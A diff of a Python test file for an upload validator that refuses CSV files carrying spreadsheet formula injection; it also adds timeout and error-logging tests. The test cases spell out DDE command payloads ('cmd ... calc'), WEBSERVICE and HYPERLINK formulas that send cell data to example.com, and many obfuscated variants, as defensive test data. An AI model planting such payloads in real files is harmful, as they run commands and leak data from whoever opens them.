@@ -3,6 +3,7 @@
 import hashlib
 import importlib
 import io
+import logging
 import zipfile
 
 import pytest
@@ -166,37 +167,37 @@ REFUSALS = [
     pytest.param(
         "grades.csv",
         b'force,grade\nKent,"=HYPERLINK(""https://example.com/?""&B1,""Kent"")"\n',
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-hyperlink",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\r\nKent,good\r\nEssex,=cmd|' /C calc'!A0\r\n",
-        uploads.CSV_FORMULA.format(row=3),
+        uploads.CSV_FORMULA.format(line=3),
         id="csv-dde",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\n,\n  \t-2+cmd|' /C calc'!A0,good\n",
-        uploads.CSV_FORMULA.format(row=3),
+        uploads.CSV_FORMULA.format(line=3),
         id="csv-dde-after-a-blank-row-and-spaces",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\rKent,@SUM(1+1)\r",
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-at-function-and-mac-line-ends",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\nKent,+'\\\\server\\share\\[book.xlsx]Sheet1'!A1\n",
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-link-to-a-file-on-a-share",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\nKent,='file://example.org/share/x.ods'#$Sheet1.A1\n",
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-libreoffice-link-to-a-file",
     ),
     # Found by the review of this check: cells another reading of the file
@@ -204,55 +205,102 @@ REFUSALS = [
     pytest.param(
         "grades.csv",
         b'force,grade\r\nKent,  "=WEBSERVICE(""https://example.com/?""&A1)"\r\n',
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-blanks-before-a-quoted-formula",
     ),
     pytest.param(
         "grades.csv",
         b'force,grade\nKent,x;=WEBSERVICE("https://example.com/?"&A1)\n',
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-after-a-semicolon",
     ),
     pytest.param(
         "grades.csv",
         b'force,grade\nKent,x\t=WEBSERVICE("https://example.com/?"&A1)\n',
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-after-a-tab",
     ),
     pytest.param(
         "grades.csv",
         b'"SEP=:"\r\nforce:grade\r\nKent:=HYPERLINK("https://example.com")\r\n',
-        uploads.CSV_FORMULA.format(row=3),
+        uploads.CSV_FORMULA.format(line=3),
         id="csv-separator-line",
     ),
     pytest.param(
         "grades.csv",
         b"\xef\xbb\xbfsep=;\r\nforce;grade\r\nKent;x,=cmd|' /C calc'!A0\r\n",
-        uploads.CSV_FORMULA.format(row=3),
+        uploads.CSV_FORMULA.format(line=3),
         id="csv-separator-line-and-a-comma",
     ),
     pytest.param(
         "grades.csv",
         b"sep=|\r\nforce|grade\r\nKent|x,=cmd|' /C calc'!A0\r\n",
-        uploads.CSV_FORMULA.format(row=3),
+        uploads.CSV_FORMULA.format(line=3),
         id="csv-declared-separator-inside-a-comma-cell",
     ),
     pytest.param(
         "grades.csv",
         "force,grade\nKent,\u200b\ufeff=cmd|' /C calc'!A0\n".encode(),
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-invisible-characters-first",
     ),
     pytest.param(
         "grades.csv",
         'force,grade\nKent,＝HYPERLINK（"https://example.com"）\n'.encode(),
-        uploads.CSV_FORMULA.format(row=2),
+        uploads.CSV_FORMULA.format(line=2),
         id="csv-fullwidth-formula",
+    ),
+    # Found by the second review.
+    pytest.param(
+        "grades.csv",
+        b'a,b\nKent,"=""\n""&WEBSERVICE(""https://example.com/?""&A1)"\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-quoted-formula-over-two-lines",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'a,b\nKent,"="x"&WEBSERVICE(A1)",b\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-quote-mark-that-does-not-close-the-cell",
+    ),
+    pytest.param(
+        "grades.csv",
+        'a,b\nKent,="，"&WEBSERVICE("https://example.com/?"&A1)\n'.encode(),
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-fullwidth-comma-is-not-a-separator",
+    ),
+    pytest.param(
+        "grades.csv",
+        'a,b\nKent,="\u2028"&WEBSERVICE("https://example.com/?"&A1)\n'.encode(),
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-line-separator-is-not-a-line-break",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"a,b\n"
+        + (b"y" * 104 + b"\n") * 9_986
+        + b'Kent,"=1+'
+        + b" " * 60
+        + b'WEBSERVICE(""https://example.com/?""&A1)"\n',
+        uploads.CSV_FORMULA.format(line=9_988),
+        id="csv-quoted-cell-across-the-reading-blocks",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'ID;P\r\nC;Y1;X1;K0;EWEBSERVICE("https://example.com")\r\nE\r\n',
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-that-excel-opens-as-sylk",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"a,b\nKent,=\\\\example\\share\\book.xlsx!Name\n",
+        uploads.CSV_FORMULA.format(line=2),
+        id="csv-name-in-a-workbook-on-a-share",
     ),
     pytest.param(
         "grades.csv",
         b'force,grade\n"Kent,' + b"x" * 140_000 + b"\nEssex,=cmd|' /C calc'!A0\n",
-        uploads.CSV_FORMULA.format(row=3),
+        uploads.CSV_FORMULA.format(line=3),
         id="csv-after-a-quote-never-closed",
     ),
 ]
@@ -273,7 +321,8 @@ def test_a_formula_started_with_an_apostrophe_is_kept_as_the_refusal_says(
     private_storage, inspector
 ):
     content = b'area,link\nNorth,\'=HYPERLINK("https://example.com")\n'
-    uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
+    stored = uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
+    assert (private_storage / stored.storage_name).read_bytes() == content
 
 
 def test_csv_values_that_cannot_act_are_kept(private_storage, inspector):
@@ -284,6 +333,12 @@ def test_csv_values_that_cannot_act_are_kept(private_storage, inspector):
         b'"Surrey","-5","+44 (0)20 7946 0000","- (see the statement)","Notes (north)"\n'
         b"Sussex,-(1250.00),- urgent!,@ 14:00 (approx),=A1+B1\n"
         b"-5,Kent (north);east\t(see notes)\n"
+        b'ID,"Notes ""quoted"" here",- see item A\n'
+        b'"Multi-line, closed","Attended.\n- Suspect left at 14:00"\n'
+        + "+£1250 (refund),\u2028 -x\n".encode()
+        + b"|"
+        + b"\t" * 100_000
+        + b"x\n"  # a run of tabs, read once (it was quadratic)
     )
     stored = uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
     assert (private_storage / stored.storage_name).read_bytes() == content
@@ -313,9 +368,25 @@ def test_an_upload_passed_under_other_rules_is_checked_again():
     assert uploads.check_upload(upload, kinds=["csv"], served=False) == "csv"
     with pytest.raises(ValidationError) as error:
         uploads.check_upload(upload, kinds=["csv"])
-    assert error.value.messages == [uploads.CSV_FORMULA.format(row=2)]
+    assert error.value.messages == [uploads.CSV_FORMULA.format(line=2)]
     with pytest.raises(ValidationError):
         uploads.check_upload(upload, kinds=["csv"], max_bytes=8, served=False)
+
+
+def test_a_csv_too_slow_to_check_is_refused_as_too_complex(monkeypatch):
+    """The check runs in a process of its own, stopped at its time limit."""
+    monkeypatch.setattr(uploads, "PDF_CHECK_SECONDS", 0.01)
+    with pytest.raises(ValidationError) as error:
+        uploads.check_upload(files.upload("figures.csv", files.csv()), kinds=["csv"])
+    assert error.value.messages == [uploads.CSV_TOO_COMPLEX]
+
+
+def test_when_the_csv_check_itself_fails_someone_is_told(monkeypatch, caplog):
+    monkeypatch.setattr(uploads.sys, "executable", "/bin/false")
+    with caplog.at_level(logging.INFO), pytest.raises(ValidationError) as error:
+        uploads.check_upload(files.upload("figures.csv", files.csv()), kinds=["csv"])
+    assert error.value.messages == [uploads.NOT_UPLOADED]
+    assert [r.levelname for r in caplog.records if r.name == "core.uploads"] == ["ERROR"]
 
 
 def test_zip_bomb_is_judged_without_inflating_it(monkeypatch):
